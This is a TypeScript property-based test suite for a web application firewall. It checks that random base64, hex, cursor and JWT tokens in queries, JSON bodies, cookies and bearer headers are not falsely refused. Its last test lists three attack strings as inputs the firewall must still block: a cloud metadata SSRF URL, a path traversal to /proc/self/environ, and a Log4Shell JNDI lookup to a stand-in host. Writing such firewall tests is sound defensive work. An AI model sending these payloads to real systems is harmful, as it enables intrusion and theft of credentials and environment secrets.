/**
 * P3 on opaque tokens: the values clients carry without writing them (list
 * cursors, JWTs, API keys, ids, digests, CSRF tokens) are random text in a
 * base64, base64url or hex alphabet. By chance such text spells fragments of
 * attack syntax (`ognl`, `//0/…`, `proc/3`), so a rule that matches a bare
 * fragment anywhere refuses about one token in ten thousand: a user whose
 * next-page cursor happens to hold one cannot page on. These properties send
 * many random tokens, of every length a client sends, where tokens travel (a
 * query argument, a JSON field, a cookie, a bearer header) and require that
 * none is refused. A fixed fast-check seed makes a failure replay exactly.
 */
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { compileRules, inspect, scoreOf, type WafRequest } from "../../src/pipeline/waf";

const THRESHOLD = 5;
const FC_SEED = 0x0b5c07;
// About 1 in 10,000 random tokens tripped the rules this suite was written against; enough runs to see that.
const RUNS = 12_000;
const rules = compileRules(1, { skipAppRules: true });
const HOST = ["host", "api.rampart.test"] as const;

const bytes = fc.uint8Array({ minLength: 6, maxLength: 160 });
const binary = (b: Uint8Array): string => String.fromCharCode(...b);
const base64 = (b: Uint8Array): string => btoa(binary(b));
const base64url = (b: Uint8Array): string => base64(b).replace(/\+/g, "-").replace(/\//g, "_").replace(/=+$/, "");
const hex = (b: Uint8Array): string => Array.from(b, (x) => x.toString(16).padStart(2, "0")).join("");
const cursorOf = (uuid: string, at: Date): string =>
  base64url(new TextEncoder().encode(JSON.stringify({ l: "records", p: { at: at.toISOString(), id: uuid } })));
const jwtOf = (parts: readonly Uint8Array[]): string => parts.map(base64url).join(".");

/** Every kind of opaque token, each from random bytes. */
const tokens = fc.oneof(
  bytes.map(base64),
  bytes.map(base64url),
  bytes.map(hex),
  fc
    .tuple(fc.uuid(), fc.date({ min: new Date(2020, 0, 1), max: new Date(2040, 0, 1), noInvalidDate: true }))
    .map(([u, d]) => cursorOf(u, d)),
  fc.array(bytes, { minLength: 3, maxLength: 3 }).map(jwtOf),
);

type Place = "query" | "json" | "cookie" | "bearer";
function carrying(place: Place, token: string): WafRequest {
  switch (place) {
    case "query":
      return {
        method: "GET",
        target: `/v1/orgs/acme/risks?cursor=${encodeURIComponent(token)}&limit=50`,
        headers: [HOST],
        body: undefined,
      };
    case "json":
      return {
        method: "POST",
        target: "/v1/auth/refresh",
        headers: [HOST, ["content-type", "application/json"]],
        body: JSON.stringify({ refresh_token: token }),
      };
    case "cookie":
      return { method: "GET", target: "/v1/me", headers: [HOST, ["cookie", `rampart_csrf=${token}; theme=dark`]], body: undefined };
    case "bearer":
      return { method: "GET", target: "/v1/me", headers: [HOST, ["authorization", `Bearer ${token}`]], body: undefined };
  }
}

describe("P3 WAF on opaque tokens", () => {
  it.each(["query", "json", "cookie", "bearer"] as const)(
    "P3: no random base64, base64url, hex, cursor or JWT token is refused in a %s",
    (place) => {
      const refused: string[] = [];
      fc.assert(
        fc.property(tokens, (token) => {
          const matches = inspect(carrying(place, token), rules);
          if (scoreOf(matches) >= THRESHOLD) refused.push(`${token} → rules ${matches.map((m) => m.id).join(",")}`);
          return true;
        }),
        { seed: FC_SEED, numRuns: RUNS },
      );
      expect(refused).toEqual([]);
    },
  );

  it("P3 (refuses): an attack is still refused when it stands in a token's place", () => {
    for (const attack of ["http://169.254.169.254/latest/meta-data/", "../../../../proc/self/environ", "${jndi:ldap://x.example/a}"]) {
      expect(scoreOf(inspect(carrying("query", attack), rules)), attack).toBeGreaterThanOrEqual(THRESHOLD);
    }
  });
});
